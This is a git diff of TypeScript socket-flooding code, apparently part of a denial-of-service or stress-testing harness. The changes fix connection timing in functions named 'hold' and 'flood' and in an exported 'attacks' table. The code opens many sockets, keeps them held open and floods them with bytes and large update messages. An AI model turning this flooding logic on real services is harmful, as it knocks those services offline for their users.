@@ -58,7 +58,7 @@ async function hold(
     await sleep(100);
     for (const [at, socket] of sockets.entries()) {
       if (socket.destroyed) sockets[at] = again(at);
-      else each?.(socket);
+      else if (!socket.connecting) each?.(socket);
     }
   }
   end(sockets);
@@ -72,7 +72,7 @@ function flood(field: Field, count: number, first: string, bytes: Buffer): Promi
     Array.from({ length: count }, (_, at) => again(at)),
     again,
     (socket) => {
-      if (!socket.connecting && !socket.writableNeedDrain)
+      if (!socket.writableNeedDrain)
         while (!socket.destroyed && socket.write(bytes) && socket.writableLength < 4_000_000);
     },
   );
@@ -124,7 +124,7 @@ export const attacks: Readonly<Record<string, (field: Field) => Promise<void>>> 
     const most = update(100_000, 'c');
     const again = (at: number): Socket => {
       const socket = open(field, at, handshake('requireHello=true'));
-      socket.write(at < 4 ? most : updates[0]);
+      socket.once('connect', () => socket.write(at < 4 ? most : updates[0]));
       return socket;
     };
     let turn = 0;
